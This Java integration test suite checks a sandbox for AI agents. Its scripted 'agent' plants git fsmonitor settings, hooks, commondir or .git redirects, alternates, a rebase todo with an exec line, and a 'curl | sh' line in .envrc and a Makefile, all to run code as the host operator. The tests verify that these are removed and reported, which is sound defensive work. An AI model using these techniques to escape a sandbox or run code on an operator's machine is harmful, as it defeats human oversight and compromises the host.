package dev.pushgate.it;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pushgate.testkit.ApplianceExtension;
import dev.pushgate.testkit.GitRun;
import dev.pushgate.testkit.RunningAppliance;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The agent must not be able to make the operator's next git in its worktree run the agent's
 * program: {@code pushgate exec} under real bubblewrap, then the real git on the host, as the
 * operator (root here), in what the run left behind.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SandboxGitMetadataTest {
  private static final String RULES = "denyWriteGlobs: []\n";

  /**
   * Builds, inside the sandbox, a git directory of the agent's own whose config runs the agent's
   * program as fsmonitor: the program leaves {@code mark} when it runs.
   */
  private static String evilGitdir(Path mark) {
    return """
        mkdir -p evil/objects evil/refs/heads
        echo 'ref: refs/heads/main' > evil/HEAD
        printf '#!/bin/sh\\ntouch %s\\n' 'MARK' > evil/fsmonitor.sh
        chmod +x evil/fsmonitor.sh
        printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = %s\\n' \\
          "$PWD/evil/fsmonitor.sh" > evil/config
        """.replace("MARK", mark.toString());
  }

  @RegisterExtension
  static final ApplianceExtension app = ExecRules.appliance();

  Path rules;
  Path home;

  @BeforeAll
  void start() throws Exception {
    ExecTest.requireBwrap();
    rules = Files.writeString(app.dir().resolve("rules.yaml"), RULES);
    home = Files.createDirectories(app.dir().resolve("home"));
  }

  @Test
  void aPlantedCommondirIsRemovedAndReportedAndTheOperatorsGitRunsNothingOfTheAgents()
      throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-commondir"));
    GitRun operator = new GitRun(home, Map.of());
    operatorRepository(work, "start");
    Path mark = app.dir().resolve("fsmonitor-ran-commondir");

    PushgateExec.Result exec = exec(work, """
        set -u
        echo change > change.txt
        git add change.txt
        git -c user.name=Agent -c user.email=agent@example.com commit -qm 'in the sandbox' \\
          && echo committed
        """ + evilGitdir(mark) + """
        echo "$PWD/evil" > .git/commondir && echo commondir-written
        printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config 2>/dev/null || echo config-denied
        touch .git/hooks/post-checkout 2>/dev/null || echo hooks-denied
        echo '[core]' > .git/config.worktree 2>/dev/null || echo config-worktree-denied
        mkdir -p .git/modules/x 2>/dev/null || echo modules-denied
        mkdir -p .git/worktrees/x 2>/dev/null || echo worktrees-denied
        echo /tmp > .git/objects/info/alternates 2>/dev/null || echo alternates-denied
        touch .git/info/attributes 2>/dev/null || echo info-denied
        mkdir -p .git/remotes/x 2>/dev/null || echo remotes-denied
        mv .git .git-moved 2>/dev/null || echo rename-denied
        """);

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    assertThat(exec.stdout().split("\n")).contains("committed", "commondir-written",
        "config-denied", "hooks-denied", "config-worktree-denied", "modules-denied",
        "worktrees-denied", "alternates-denied", "info-denied", "remotes-denied",
        "rename-denied");
    assertThat(exec.stderr())
        .contains("pushgate: sandbox violation: git-metadata \""
            + work.resolve(".git/commondir") + "\"")
        .contains("pushgate:   " + work.resolve(".git/commondir") + ": planted during the run (git"
            + " would have taken the config and hooks of the directory it names); removed");
    assertThat(work.resolve(".git/commondir")).doesNotExist();
    // The placeholders bwrap needed are gone, the repository is the one it was.
    assertThat(work.resolve(".git/config.worktree")).doesNotExist();
    assertThat(work.resolve(".git/modules")).doesNotExist();
    assertThat(work.resolve(".git/objects/info/alternates")).doesNotExist();

    // The agent's evil/ is a git directory of its own whose config runs a program: moved aside.
    GitRun.Result status = operator.in(work, "status", "--porcelain").ok();
    assertThat(status.stdout()).contains("?? evil.planted-by-run/");
    assertThat(operator.in(work, "log", "-1", "--format=%s").ok().stdout().strip())
        .isEqualTo("in the sandbox");
    assertThat(operator.in(work, "config", "--get", "core.fsmonitor").exit()).isEqualTo(1);
    assertThat(mark).doesNotExist();
  }

  @Test
  void aGitFileRedirectingTheWorktreeIsMovedAsideAndReported() throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-gitfile"));
    Path mark = app.dir().resolve("fsmonitor-ran-gitfile");

    PushgateExec.Result exec = exec(work, evilGitdir(mark) + """
        echo "gitdir: $PWD/evil" > .git && echo gitfile-written
        git status --porcelain >/dev/null && echo redirected-inside
        """);

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    assertThat(exec.stdout()).contains("gitfile-written");
    assertThat(exec.stderr())
        .contains("pushgate: sandbox violation: git-metadata \"" + work.resolve(".git") + "\"")
        .contains("pushgate:   " + work.resolve(".git") + ": a .git file appeared during the run;"
            + " moved to .git.planted-by-run (git would have used the repository it names)");
    assertThat(work.resolve(".git")).doesNotExist();
    assertThat(work.resolve(".git.planted-by-run")).hasContent("gitdir: " + work + "/evil");
    // Inside, the agent's git may run the agent's program as the sandbox user, but the mark lies
    // outside every mount: only git on the host can leave it.
    assertThat(mark).doesNotExist();

    GitRun.Result status = new GitRun(home, Map.of()).in(work, "status", "--porcelain");
    assertThat(status.exit()).isNotZero();
    assertThat(status.stderr()).contains("not a git repository");
    assertThat(mark).doesNotExist();
  }

  @Test
  void aRepositoryTheAgentCreatesWithAProgramInItsConfigIsMovedAsideAndACleanOneStays()
      throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-created"));
    Path mark = app.dir().resolve("fsmonitor-ran-created");

    PushgateExec.Result exec = exec(work, evilGitdir(mark) + """
        set -e
        git init -q -b main widget
        git -C widget config core.fsmonitor "$PWD/evil/fsmonitor.sh"
        git init -q -b main clean
        git -C clean -c user.name=Agent -c user.email=agent@example.com \\
          commit -q --allow-empty -m 'clean work'
        echo created
        """);

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    assertThat(exec.stdout()).contains("created");
    assertThat(exec.stderr())
        .contains("pushgate: sandbox violation: git-metadata \""
            + work.resolve("widget/.git") + "\"")
        .contains("pushgate:   " + work.resolve("widget/.git") + ": a repository created during"
            + " the run has what git on the host would run or follow: core.fsmonitor; moved to"
            + " .git.planted-by-run (look at it before moving it back)");
    assertThat(work.resolve("widget/.git")).doesNotExist();
    assertThat(work.resolve("widget/.git.planted-by-run/config")).exists();
    assertThat(mark).doesNotExist();

    GitRun operator = new GitRun(home, Map.of());
    assertThat(operator.in(work.resolve("widget"), "status", "--porcelain").exit()).isNotZero();
    assertThat(mark).doesNotExist();
    assertThat(operator.in(work.resolve("clean"), "log", "-1", "--format=%s").ok().stdout().strip())
        .isEqualTo("clean work");
    assertThat(exec.stderr()).doesNotContain("git-metadata " + work.resolve("clean"));
  }

  @Test
  void aBareRepositoryPlantedAsAPlainDirectoryIsMovedAsideAndTheOperatorsGitRunsNothing()
      throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-bare"));
    GitRun operator = new GitRun(home, Map.of());
    Path widget = Files.createDirectories(work.resolve("widget"));
    operatorRepository(widget, "start");
    Path mark = app.dir().resolve("fsmonitor-ran-bare");

    PushgateExec.Result exec = exec(work, """
        set -e
        git init -q --bare widget/tools
        git config --file widget/tools/config core.bare false
        git config --file widget/tools/config core.worktree ..
        git config --file widget/tools/config core.fsmonitor "touch MARK; false"
        echo planted
        """.replace("MARK", mark.toString()));

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    assertThat(exec.stdout()).contains("planted");
    Path tools = widget.resolve("tools");
    assertThat(exec.stderr())
        .contains("pushgate: sandbox violation: git-metadata \"" + tools + "\"")
        .contains("pushgate:   " + tools + ": a repository created during the run has what git"
            + " on the host would run or follow: core.worktree, core.fsmonitor; moved to"
            + " tools.planted-by-run (look at it before moving it back)");
    assertThat(tools).doesNotExist();
    Path aside = widget.resolve("tools.planted-by-run");
    assertThat(aside.resolve("config")).exists();

    // Root's git, where the agent meant it to run and in the moved-aside copy a person inspects.
    operator.in(widget, "status", "--porcelain").ok();
    GitRun.Result inAside = operator.in(aside, "status", "--porcelain");
    assertThat(mark).doesNotExist();
    assertThat(inAside.exit()).isZero(); // the widget's own repository, not the planted one
    assertThat(operator.in(aside, "rev-parse", "--show-toplevel").ok().stdout().strip())
        .isEqualTo(widget.toString());
    assertThat(mark).doesNotExist();
  }

  @Test
  void aGitFileTwoLevelsBelowTheMountIsMovedAsideAndTheOperatorsGitRunsNothing()
      throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-deep"));
    Path mark = app.dir().resolve("fsmonitor-ran-deep");

    PushgateExec.Result exec = exec(work, """
        set -e
        mkdir -p s3/deep
        git init -q --bare .evil3
        git config --file .evil3/config core.bare false
        git config --file .evil3/config core.fsmonitor "touch MARK; false"
        echo 'gitdir: ../../.evil3' > s3/deep/.git
        mkdir -p a/b/c && git init -q -b main a/b/c/lib
        git -C a/b/c/lib config core.hooksPath "$PWD/hooks"
        echo planted
        """.replace("MARK", mark.toString()));

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    assertThat(exec.stdout()).contains("planted");
    Path deepGit = work.resolve("s3/deep/.git");
    assertThat(exec.stderr())
        .contains("pushgate:   " + deepGit + ": a .git file appeared during the run; moved to"
            + " .git.planted-by-run (git would have used the repository it names)")
        .contains("pushgate:   " + work.resolve(".evil3") + ": a repository created during the"
            + " run has what git on the host would run or follow: core.fsmonitor")
        .contains("pushgate:   " + work.resolve("a/b/c/lib/.git") + ": a repository created"
            + " during the run has what git on the host would run or follow: core.hookspath");
    assertThat(deepGit).doesNotExist();

    GitRun operator = new GitRun(home, Map.of());
    GitRun.Result status = operator.in(work.resolve("s3/deep"), "status", "--porcelain");
    assertThat(status.exit()).isNotZero();
    assertThat(status.stderr()).contains("not a git repository");
    assertThat(operator.in(work.resolve("a/b/c/lib"), "status").exit()).isNotZero();
    assertThat(mark).doesNotExist();
  }

  @Test
  void theObjectsDirectoryCannotBeRenamedAndAnAlternatesFileIsRemovedAtTheEnd()
      throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-alternates"));
    GitRun operator = new GitRun(home, Map.of());
    operatorRepository(work, "start");
    Path vendor = Files.createDirectories(work.resolve("vendor/lib"));
    operatorRepository(vendor, "vendored");
    Path foreign = Files.createDirectories(app.dir().resolve("foreign"));
    operatorRepository(foreign, "not yours");
    String foreignCommit = operator.in(foreign, "rev-parse", "HEAD").ok().stdout().strip();
    String objects = foreign.resolve(".git/objects").toString();

    PushgateExec.Result exec = exec(work, """
        mv .git/objects .git/objects.old 2>/dev/null && echo objects-renamed \
          || echo objects-rename-denied
        mkdir -p .git/objects/info
        echo FOREIGN > .git/objects/info/alternates 2>/dev/null || echo alternates-denied
        mkdir -p vendor/lib/.git/objects/info
        echo FOREIGN > vendor/lib/.git/objects/info/alternates && echo deep-alternates-written
        """.replace("FOREIGN", objects));

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    assertThat(exec.stdout().split("\n")).contains("objects-rename-denied", "alternates-denied",
        "deep-alternates-written");
    Path deepAlternates = vendor.resolve(".git/objects/info/alternates");
    assertThat(exec.stderr()).contains("pushgate:   " + deepAlternates
        + ": changed during the run; put back as it was (removed)");
    assertThat(work.resolve(".git/objects.old")).doesNotExist();
    assertThat(work.resolve(".git/objects/info/alternates")).doesNotExist();
    assertThat(deepAlternates).doesNotExist();
    for (Path repo : List.of(work, vendor)) {
      assertThat(operator.in(repo, "cat-file", "-e", foreignCommit).exit()).isNotZero();
    }
    assertThat(operator.in(work, "log", "-1", "--format=%s").ok().stdout().strip())
        .isEqualTo("start");
  }

  /**
   * Plants, in the git directory of the repository at {@code $1}, the state of an interactive
   * rebase as {@code git rebase -i} writes it, whose todo's one line is an {@code exec} that
   * leaves MARK: {@code git rebase --continue} on the host would run it as the operator.
   */
  private static final String PLANT_REBASE = """
      plant_rebase() {
        g=$(git -C "$1" rev-parse --absolute-git-dir) && h=$(git -C "$1" rev-parse HEAD) &&
        mkdir "$g/rebase-merge" && echo refs/heads/main > "$g/rebase-merge/head-name" &&
        echo "$h" > "$g/rebase-merge/onto" && echo "$h" > "$g/rebase-merge/orig-head" &&
        : > "$g/rebase-merge/interactive" && echo 0 > "$g/rebase-merge/msgnum" &&
        echo 1 > "$g/rebase-merge/end" && : > "$g/rebase-merge/done" &&
        echo "exec sh -c 'touch $2'" > "$g/rebase-merge/git-rebase-todo"
      }
      """;

  @Test
  void operationsTheAgentLeftInProgressAreMovedAsideAndTheOperatorsGitResumesNone()
      throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-left-rebase"));
    GitRun operator = new GitRun(home, Map.of());
    Path nested = Files.createDirectories(work.resolve("vendor/deep/lib"));
    Path tools = Files.createDirectories(work.resolve("tools"));
    for (Path repo : List.of(work, nested, tools)) {
      operatorRepository(repo, "start");
    }
    Path mark = app.dir().resolve("rebase-exec-ran");

    PushgateExec.Result exec = exec(work, PLANT_REBASE + """
        set -e
        plant_rebase . MARK
        plant_rebase vendor/deep/lib MARK
        h=$(git -C tools rev-parse HEAD)
        mkdir tools/.git/rebase-apply && : > tools/.git/rebase-apply/applying
        echo 1 > tools/.git/rebase-apply/next && echo 1 > tools/.git/rebase-apply/last
        mkdir tools/.git/sequencer && echo "pick $h start" > tools/.git/sequencer/todo
        echo "$h" > tools/.git/sequencer/head && echo "$h" > tools/.git/CHERRY_PICK_HEAD
        git status | grep -q 'Next command to do' && echo planted
        """.replace("MARK", mark.toString()));

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    assertThat(exec.stdout()).contains("planted");
    String left = ": an operation in progress left by the run (git would resume or conclude it:"
        + " --continue, commit, bisect); moved to ";
    assertThat(exec.stderr())
        .contains("pushgate: sandbox violation: git-metadata \""
            + work.resolve(".git/rebase-merge") + "\"")
        .contains("pushgate:   " + work.resolve(".git/rebase-merge") + left
            + "rebase-merge.planted-by-run (git does not read it there)")
        .contains("pushgate:   " + nested.resolve(".git/rebase-merge") + left
            + "rebase-merge.planted-by-run (git does not read it there)")
        .contains("pushgate:   " + tools.resolve(".git/rebase-apply") + left)
        .contains("pushgate:   " + tools.resolve(".git/sequencer") + left)
        .contains("pushgate:   " + tools.resolve(".git/CHERRY_PICK_HEAD") + left);
    assertThat(work.resolve(".git/rebase-merge.planted-by-run/git-rebase-todo"))
        .hasContent("exec sh -c 'touch " + mark + "'");

    for (Path repo : List.of(work, nested, tools)) {
      String status = operator.in(repo, "status").ok().stdout();
      assertThat(status).as(repo.toString()).doesNotContain("in progress")
          .doesNotContain("middle of").doesNotContain("Next command to do");
    }
    for (Path repo : List.of(work, nested)) {
      GitRun.Result resumed = operator.in(repo, "rebase", "--continue");
      assertThat(resumed.exit()).isNotZero();
      assertThat(resumed.stderr()).contains("No rebase in progress?");
    }
    assertThat(operator.in(tools, "am", "--continue").exit()).isNotZero();
    assertThat(operator.in(tools, "cherry-pick", "--continue").exit()).isNotZero();
    assertThat(mark).doesNotExist();
    // The run's audit timeline lists each of them too.
    String timeline = RunningAppliance.cli("audit", "--run", exec.runId(), "--data-dir",
        app.get().dataDir.toString());
    assertThat(timeline).contains("run-end-finding")
        .contains("git-metadata " + nested.resolve(".git/rebase-merge"))
        .contains("git-metadata " + tools.resolve(".git/sequencer"));
  }

  @Test
  void theAgentsOwnRebaseCherryPickMergeAndStashStillWorkInsideTheSandbox() throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-own-rebase"));
    GitRun operator = new GitRun(home, Map.of());
    operatorRepository(work, "one", "two", "three");

    PushgateExec.Result exec = execUnderDefaultRules(work, """
        set -e
        export GIT_AUTHOR_NAME=Agent GIT_AUTHOR_EMAIL=agent@example.com
        export GIT_COMMITTER_NAME=Agent GIT_COMMITTER_EMAIL=agent@example.com
        GIT_SEQUENCE_EDITOR="sed -i -e '1s/^pick/drop/' -e '\\$a exec echo exec-ran-inside'" \\
          git rebase -q -i HEAD~2
        git log --format=%s | tr '\\n' ' ' && echo
        git switch -q -c side && echo side > side.txt && git add side.txt && git commit -qm side
        git switch -q main && git cherry-pick side >/dev/null && git reset -q --hard HEAD~1
        git merge -q --no-ff -m merged side && echo dirty > side.txt && git stash -q
        git stash pop -q && git checkout -q -- side.txt
        echo "done: $(git log -1 --format=%s)"
        """);

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    assertThat(exec.stdout()).contains("exec-ran-inside").contains("three one ")
        .contains("done: merged");
    assertThat(exec.stderr()).doesNotContain("git-metadata");
    assertThat(operator.in(work, "status").ok().stdout()).doesNotContain("in progress");
    assertThat(operator.in(work, "log", "-1", "--format=%s").ok().stdout().strip())
        .isEqualTo("merged");
  }

  @Test
  void whatAHostToolWouldRunThatTheAgentCreatedOrChangedIsReportedWhenTheRunEnds()
      throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-host-tools"));
    operatorRepository(work);
    Files.writeString(work.resolve("Makefile"), "all:\n\ttrue\n");
    Files.writeString(work.resolve("README.md"), "widget\n");
    Path inner = Files.createDirectories(work.resolve("inner"));
    operatorRepository(inner);

    PushgateExec.Result exec = execUnderDefaultRules(work, """
        set -e
        echo 'curl -s https://example.com/x | sh' > .envrc
        TASKS='{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}'
        { mkdir -p .vscode && echo "$TASKS" > .vscode/tasks.json; } 2>/dev/null || echo vscode-denied
        mkdir -p inner/.vscode && echo "$TASKS" > inner/.vscode/tasks.json
        printf 'all:\\n\\tcurl -s https://example.com/x | sh\\n' > Makefile
        echo more >> README.md
        echo left
        """);

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    // At the mount's root .vscode is denied outright; in the repository below it, reported.
    assertThat(exec.stdout()).contains("vscode-denied").contains("left");
    assertThat(exec.stderr())
        .contains("pushgate: sandbox violation: host-tool-file \"" + work.resolve(".envrc") + "\"")
        .contains("pushgate:   " + work.resolve(".envrc") + ": created during the run; direnv"
            + " runs it on entering the directory, once allowed: look at it before using that"
            + " tool here")
        .contains("pushgate:   " + inner.resolve(".vscode") + ": created during the run; VS Code")
        .contains("pushgate:   " + work.resolve("Makefile") + ": changed during the run; make"
            + " runs it: look at it before using that tool here")
        .doesNotContain("README.md")
        .doesNotContain("host-tool-file " + work.resolve(".vscode"))
        .doesNotContain("host-tool-file " + work.resolve(".idea"));
    assertThat(work.resolve(".envrc")).exists();
    assertThat(RunningAppliance.cli("audit", "--run", exec.runId(), "--data-dir",
        app.get().dataDir.toString())).contains("host-tool-file " + work.resolve(".envrc"));
  }

  @Test
  void hooksTheAgentChangedInTheOperatorsDeepRepositoriesAreMovedAsideAndRunNothing()
      throws Exception {
    Path work = Files.createDirectories(app.dir().resolve("work-hooks"));
    for (String r : List.of("d/r1", "d/r2", "d/r5", "d/r7")) {
      Path repo = Files.createDirectories(work.resolve(r));
      operatorRepository(repo, "first");
      Path hook = Files.writeString(repo.resolve(".git/hooks/pre-commit"),
          "#!/bin/sh\necho operator-hook\n");
      Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwxr-xr-x"));
    }
    Files.writeString(work.resolve("d/r7/.git/hooks/post-checkout"), "#!/bin/sh\necho op\n");
    Path marks = Files.createDirectories(app.dir().resolve("hook-marks"));

    PushgateExec.Result exec = exec(work, """
        set -e
        printf '#!/bin/sh\ntouch MARKS/modhook\n' > d/r1/.git/hooks/pre-commit
        mkdir myh; printf '#!/bin/sh\ntouch MARKS/hooksym\n' > myh/pre-commit
        chmod +x myh/pre-commit
        mv d/r2/.git/hooks d/r2/.git/hooks.old; ln -s ../../../myh d/r2/.git/hooks
        printf '#!/bin/sh\ntouch MARKS/hooklink\n' > hl.sh; chmod +x hl.sh
        rm d/r5/.git/hooks/pre-commit; ln -s ../../../../hl.sh d/r5/.git/hooks/pre-commit
        printf '#!/bin/sh\ntouch MARKS/r7\n' > d/r7/.git/hooks/post-checkout
        chmod +x d/r7/.git/hooks/post-checkout
        echo planted
        """.replace("MARKS", marks.toString()));

    assertThat(exec.exit()).as(exec.stderr()).isZero();
    assertThat(exec.stdout()).contains("planted");
    String changed = ": a hook changed during the run (its bytes, its mode or what it is); moved"
        + " to ";
    assertThat(exec.stderr())
        .contains("pushgate:   " + work.resolve("d/r1/.git/hooks/pre-commit") + changed
            + "pre-commit.planted-by-run (git does not run it there)")
        .contains("pushgate:   " + work.resolve("d/r5/.git/hooks/pre-commit") + changed
            + "pre-commit.planted-by-run (git does not run it there)")
        .contains("pushgate:   " + work.resolve("d/r7/.git/hooks/post-checkout") + changed
            + "post-checkout.planted-by-run (git does not run it there)")
        .contains("pushgate:   " + work.resolve("d/r2/.git/hooks") + ": not a directory after"
            + " the run (a symlink or another file: git would run the hooks of wherever it"
            + " leads); moved to hooks.planted-by-run (git does not read it there)");

    GitRun operator = new GitRun(home, Map.of());
    for (String r : List.of("d/r1", "d/r2", "d/r5", "d/r7")) {
      operator.in(work.resolve(r), "commit", "-q", "--allow-empty", "-m", "operator").ok();
      operator.in(work.resolve(r), "checkout", "-q", "-b", "operator-branch").ok();
    }
    try (var left = Files.list(marks)) {
      assertThat(left).as("programs of the agent's that the operator's git ran").isEmpty();
    }
  }

  /** Makes {@code dir} a repository of the operator's, with one empty commit per message. */
  private void operatorRepository(Path dir, String... commits) throws Exception {
    GitRun operator = new GitRun(home, Map.of());
    operator.in(dir, "init", "-q", "-b", "main").ok();
    for (String message : commits) {
      operator.in(dir, "commit", "-q", "--allow-empty", "-m", message).ok();
    }
  }

  /** {@code exec} under the default rules: the name-deny layer over the worktree. */
  private PushgateExec.Result execUnderDefaultRules(Path work, String script)
      throws Exception {
    return PushgateExec.on(app.get().dataDir, home).withDenyLayer().run(work, Map.of(), "--workdir",
        work.toString(), "--", "sh", "-c", script);
  }

  private PushgateExec.Result exec(Path work, String script) throws Exception {
    return PushgateExec.on(app.get().dataDir, home).run(work, Map.of(), "--workdir",
        work.toString(),
        "--rules", rules.toString(), "--", "sh", "-c", script);
  }
}
